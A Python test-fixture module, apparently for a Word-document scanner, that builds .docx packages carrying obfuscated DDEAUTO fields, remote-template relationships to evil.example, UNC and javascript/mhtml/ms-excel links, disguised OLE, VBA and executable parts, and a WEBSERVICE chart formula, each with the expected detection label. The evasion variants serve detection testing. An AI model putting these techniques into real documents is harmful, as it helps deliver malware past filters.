"""Office packages with something alive in them, each made from a sound one by changing its parts.

A `Change` takes the members of a package by their names. `LINKS` and `LIVE_DOCUMENTS` are of Word
documents; `HARMLESS` are ordinary things that only look like them.
"""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple
from zipfile import ZipFile

DOCUMENT, SETTINGS = "word/document.xml", "word/settings.xml"
TYPES = "[Content_Types].xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
VBA = OLE + "_VBA_PROJECT".encode("utf-16-le")
EVIL = "http://evil.example/x.dotm"

Members = dict[str, bytes]
Change = Callable[[Members], None]


class Hostile(NamedTuple):
    """A change and the words that are told of it."""

    change: Change
    said: str


def relationships(
    kind: str,
    target: str = EVIL,
    mode: str = 'TargetMode="External"',
    *,
    base: str = _OFFICE,
    id_: str = "z9",
) -> str:
    """A whole .rels part with one relationship."""
    type_ = kind if "/" in kind else f"{base}/{kind}"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}">'
        f'<Relationship Id="{id_}" Type="{type_}" Target="{target}" {mode}/></Relationships>'
    )


def part(name: str, content: str | bytes, kind: str = "") -> Change:
    """A part put in, with a content type when one is given."""

    def put(members: Members) -> None:
        members[name] = content.encode() if isinstance(content, str) else content
        if kind:
            end = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
            members[TYPES] = members[TYPES].replace(b"</Types>", end)

    return put


def settings_link(*words: str, **more: str) -> Change:
    """A relationship of the settings of a document."""
    return part("word/_rels/settings.xml.rels", relationships(*words, **more))


def body(xml: str) -> Change:
    """Something at the beginning of the text."""

    def put(members: Members) -> None:
        old = members[DOCUMENT]
        members[DOCUMENT] = old.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
        assert members[DOCUMENT] != old

    return put


def run(inside: str) -> str:
    """A run around it."""
    return f"<w:r>{inside}</w:r>"


def instruction(*pieces: str, tag: str = "instrText") -> str:
    """Runs with the pieces of an instruction."""
    return "".join(run(f'<w:{tag} xml:space="preserve">{each}</w:{tag}>') for each in pieces)


def field(*pieces: str, inside: str = "") -> str:
    """A complex field in a paragraph of its own; `inside` stands behind the pieces."""
    marks = [run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end")]
    code = instruction(*pieces) + inside
    return f"<w:p>{marks[0]}{code}{marks[1]}{run('<w:t>1</w:t>')}{marks[2]}</w:p>"


def nested(*pieces: str) -> str:
    """A field to stand in the instruction of another."""
    begin, end = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "end"))
    return begin + instruction(*pieces) + end


def recoded(name: str, encoding: str, declared: str = "") -> Change:
    """A part in another encoding, which its declaration names."""

    def change(members: Members) -> None:
        text = members[name].decode()
        text = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
        head = f'<?xml version="1.0" encoding="{declared or encoding}"?>'
        members[name] = (head + text.strip()).encode(encoding)

    return change


def both(*changes: Change) -> Change:
    """One change after the other."""

    def change(members: Members) -> None:
        for each in changes:
            each(members)

    return change


def workbook_of(formula: str) -> bytes:
    """A small workbook, as Word embeds it behind a chart."""
    stream = BytesIO()
    with ZipFile(stream, "w") as package:
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        package.writestr(TYPES, "<Types/>")
        sheet = f'<worksheet xmlns="{main}"><c r="A1"><f>{formula}</f></c></worksheet>'
        package.writestr("xl/worksheets/sheet1.xml", sheet)
    return stream.getvalue()


def charted(formula: str) -> Change:
    """A chart with its figures in an embedded workbook, as Word makes one."""
    chart = "word/charts/chart7.xml"
    target = "../embeddings/Microsoft_Excel_Sheet1.xlsx"
    return both(
        part(
            chart,
            '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
            "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
        ),
        part("word/charts/_rels/chart7.xml.rels", relationships("package", target, "")),
        part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook_of(formula)),
    )


_RELS = "liên kết ra ngoài (word/_rels/settings.xml.rels)"
_MIXED = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
_OBJECT = '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed"/>'
_IMAGE = (
    '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>'
    '<v:imagedata src="{}"/></v:shape></w:pict></w:r></w:p>'
)

LINKS = {
    "character reference": settings_link("attachedTemplate", EVIL, 'TargetMode="Ex&#116;ernal"'),
    "blanks around =": settings_link("attachedTemplate", EVIL, 'TargetMode  =\n "External"'),
    "single quotes": settings_link("attachedTemplate", EVIL, "TargetMode='External'"),
    "lower case": settings_link("attachedTemplate", EVIL, 'TargetMode="external"'),
    "no mode": settings_link("attachedTemplate", EVIL, ""),
    "UNC, no mode": settings_link("attachedTemplate", r"\\evil\x.dotm", ""),
    "strict": part("word/_rels/settings.xml.rels", relationships("attachedTemplate", base=_STRICT)),
    "prefix": part(
        "word/_rels/settings.xml.rels",
        relationships("attachedTemplate")
        .replace("<Relationship", "<a:Relationship")
        .replace("</", "</a:")
        .replace("xmlns=", "xmlns:a="),
    ),
    "UTF-16": both(
        settings_link("attachedTemplate"), recoded("word/_rels/settings.xml.rels", "utf-16")
    ),
    "UTF-16 without a mark": both(
        settings_link("attachedTemplate"),
        recoded("word/_rels/settings.xml.rels", "utf-16-le", "utf-16"),
    ),
    "Latin-1": both(
        settings_link("attachedTemplate"), recoded("word/_rels/settings.xml.rels", "iso-8859-1")
    ),
    "percent": settings_link("attachedTemplate", "%5C%5Cevil%5Cx.dotm"),
    "file": settings_link("hyperlink", "file:///C:/x.exe"),
    "mhtml": settings_link("hyperlink", "mhtml:http://evil.example/x!y"),
    "ms-excel": settings_link("hyperlink", "ms-excel:ofe|u|http://evil.example/x.xlsm"),
    "search-ms": settings_link("hyperlink", "search-ms:query=x"),
    "javascript": settings_link("hyperlink", "javascript:x"),
    "data": settings_link("hyperlink", "data:text/html,x"),
    "picture on a server": settings_link("image", "https://evil.example/x.png"),
    "frame": settings_link("frame", "https://evil.example/x.htm"),
    "subdocument": settings_link("subDocument", "x.docx"),
    "mail merge source": settings_link("mailMergeSource", "file:///C:/x.mdb"),
}
"""Relationships that lead out: in a template refused, in a report made to lead nowhere."""

LIVE_DOCUMENTS = {
    "field": Hostile(body(field(' DDEAUTO c:\\\\x "/k"')), "trường DDEAUTO"),
    "field in pieces": Hostile(body(field(" D", "D", "EAU", "TO c")), "trường DDEAUTO"),
    "field in lower case": Hostile(body(field("ddeauto c")), "trường DDEAUTO"),
    "field of references": Hostile(body(field("&#68;&#x44;EAUTO c")), "trường DDEAUTO"),
    "field with a comment": Hostile(body(field("DD<!-- x -->E c")), "trường DDE "),
    "field with CDATA": Hostile(body(field("<![CDATA[DDE c]]>")), "trường DDE "),
    "field with an invisible letter": Hostile(body(field("D\u200bDE c")), "trường DDE "),
    "full-width letters": Hostile(body(field("\uff24\uff24\uff25 c")), "trường DDE "),
    "simple field": Hostile(
        body('<w:p><w:fldSimple w:instr = " &#68;DE c"/></w:p>'), "trường DDE "
    ),
    "field in a field": Hostile(
        body(field(" IF 1 = 1 ", inside=nested("INCLUDETEXT x"))), "trường INCLUDETEXT"
    ),
    "a field makes the word": Hostile(
        body(field(" ", inside=nested("QUOTE 68 68 69"))), "trường không rõ lệnh"
    ),
    "in alternatives": Hostile(
        body(
            field(
                " ",
                inside=f'<mc:AlternateContent {_MIXED}><mc:Choice Requires="q">'
                f"{instruction('TOC ')}</mc:Choice><mc:Fallback>{instruction('DDE c')}"
                "</mc:Fallback></mc:AlternateContent>",
            )
        ),
        "trường không rõ lệnh",
    ),
    "deleted pieces between": Hostile(
        body(field("D", inside=instruction("zz", tag="delInstrText") + instruction("DE c"))),
        "trường DDE ",
    ),
    "deleted field": Hostile(
        body(f"<w:p>{instruction('DDE c', tag='delInstrText')}</w:p>"), "trường DDE "
    ),
    "unfinished field": Hostile(
        body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction("LINK x")}</w:p>'),
        "trường LINK",
    ),
    "other prefix": Hostile(
        body(
            '<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<q:fldSimple q:instr="INCLUDEPICTURE x"/></q:p>'
        ),
        "trường INCLUDEPICTURE",
    ),
    "field in a header": Hostile(
        part(
            "word/header1.xml",
            '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"{field('DATABASE x')}</w:hdr>",
        ),
        "trường DATABASE",
    ),
    "link to a program": Hostile(body(field(' HYPERLINK "file:///c:/x.exe"')), "HYPERLINK"),
    "link to a server": Hostile(body(field(" HYPERLINK \\\\\\\\evil\\\\x")), "trường HYPERLINK"),
    "altChunk": Hostile(body('<w:altChunk w:id="x"/>'), "altChunk (word/document.xml)"),
    "altChunk by its relationship": Hostile(
        settings_link("aFChunk", "../x.htm", ""), "altChunk (word/_rels"
    ),
    "OLE": Hostile(body(f"<w:p><w:r><w:object>{_OBJECT}</w:object></w:r></w:p>"), "OLE ("),
    "OLE by its beginning": Hostile(part("word/media/image7.png", OLE), "OLE (word/media/image7"),
    "a packed file": Hostile(part("word/embeddings/a.bin", workbook_of("1")), "OLE (word/emb"),
    "a program as a picture": Hostile(part("word/media/a.jpeg", b"MZ\x90\0"), "chương trình giấu"),
    "a shortcut": Hostile(
        part("word/a.dat", b"L\0\0\0\x01\x14\x02\0" + bytes(60)), "chương trình giấu"
    ),
    "VBA as a picture": Hostile(part("word/media/a.png", VBA), "macro (word/media/a.png)"),
    "VBA by its type": Hostile(
        part("word/x", "x", "application/vnd.ms-office.VBAPROJECT; a=b"), "macro (word/x)"
    ),
    "VBA by its relationship": Hostile(
        part(
            "word/_rels/document.xml.rels",
            relationships(
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x", ""
            ),
        ),
        "macro (word/_rels/document.xml.rels)",
    ),
    "ActiveX": Hostile(settings_link("control", "activeX/a.xml", ""), "OLE (word/_rels"),
    "ribbon": Hostile(
        part(
            "customUI/a.xml",
            '<a:customUI xmlns:a="http://schemas.microsoft.com/office/2009/07/customui"/>',
        ),
        "thẻ lệnh",
    ),
    "task pane": Hostile(
        part("word/webextensions/a.xml", "<a/>", "application/vnd.ms-office.webextension+xml"),
        "thẻ lệnh",
    ),
    "mail merge": Hostile(
        part(
            SETTINGS,
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
        ),
        "nguồn trộn thư (word/settings.xml)",
    ),
    "picture without a relationship": Hostile(
        body(_IMAGE.format("\\\\evil\\x.png")), "liên kết ra ngoài (word/document.xml)"
    ),
    "form of a server": Hostile(
        part("customXml/item9.xml", "<a><xsnLocation>http://evil.example/</xsnLocation></a>"),
        "liên kết ra ngoài (customXml/item9.xml)",
    ),
    "schema with a program": Hostile(
        part(
            "customXml/item9.xml",
            '<a xmlns:s="x" s:manifestLocation="http://evil.example/"/>',
        ),
        "liên kết ra ngoài (customXml/item9.xml)",
    ),
    "reaching figures of a chart": Hostile(charted('WEBSERVICE("http://x")'), "WEBSERVICE"),
    "relationships under another name": Hostile(
        part("word/_rels/settings.xml.rel%73", relationships("attachedTemplate")),
        "liên kết ra ngoài (word/_rels/settings.xml.rel%73)",
    ),
    "UTF-7": Hostile(
        part(
            "word/_rels/settings.xml.rels",
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationships/+AD4-',
        ),
        "không phải XML",
    ),
    "entities": Hostile(
        part("word/_rels/settings.xml.rels", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
        "khai báo thực thể",
    ),
    "endless relationships": Hostile(
        part("word/_rels/settings.xml.rels", "<Relationship " * 120_000), "không phải XML"
    ),
}
"""What is in a document besides links, and what is told of it."""

HARMLESS = {
    "link to a page": part(
        "word/_rels/footnotes.xml.rels", relationships("hyperlink", "https://dichvucong.gov.vn")
    ),
    "link to a mail": part(
        "word/_rels/footnotes.xml.rels", relationships("hyperlink", "MAILTO:vt@a.vn?subject=x")
    ),
    "fields": body(
        "".join(
            map(
                field,
                (
                    " PAGE ",
                    " NUMPAGES \\* MERGEFORMAT ",
                    ' TOC \\o "1-3" \\h \\z \\u ',
                    " REF link \\h ",
                    " PAGEREF _Toc1 \\h ",
                    ' DATE \\@ "dd/MM/yyyy" ',
                    " =SUM(ABOVE) ",
                    " SEQ Bảng ",
                    ' HYPERLINK \\l "muc1" ',
                    " STYLEREF 1 ",
                    ' HYPERLINK "https://a.vn" \\o "xem file:///" \\t "_blank" ',
                    " FORMTEXT ",
                    " PRINTDATE ",
                    " FILENAME \\p ",
                    "",
                ),
            )
        )
    ),
    "field in a field": body(field(" IF ", inside=nested(" PAGE ") + instruction(" = 1 a b"))),
    "links in the result of a field": body(
        f"<w:p>{run('<w:fldChar w:fldCharType=&quot;begin&quot;/>'.replace('&quot;', chr(34)))}"
        f"{instruction(' TOC ')}"
        f"{run('<w:fldChar w:fldCharType=&quot;separate&quot;/>'.replace('&quot;', chr(34)))}"
        f"{nested(' PAGEREF _Toc1 ')}"
        f"{run('<w:fldChar w:fldCharType=&quot;end&quot;/>'.replace('&quot;', chr(34)))}</w:p>"
    ),
    "the word in the text": body(f"<w:p>{run('<w:t>DDEAUTO c:/x file:///c:/x</w:t>')}</w:p>"),
    "mathematics": body(
        '<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f>'
        "<m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f></m:oMath></w:p>"
    ),
    "chart with its figures": charted("SUM(A1:A9)"),
    "link that leads nowhere": settings_link("attachedTemplate", "about:blank"),
    "data of another program": part(
        "customXml/item9.xml", "<link><object/><control/><f>a|b</f><frame/></link>"
    ),
    "data in UTF-16": part(
        "customXml/item9.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")
    ),
    "drawing with a document type": part(
        "word/media/a.svg", "<!DOCTYPE svg><svg/>", "image/svg+xml"
    ),
    "picture of old drawings": body(_IMAGE.format("a.png")),
}
"""Ordinary things of reports that are not alive."""
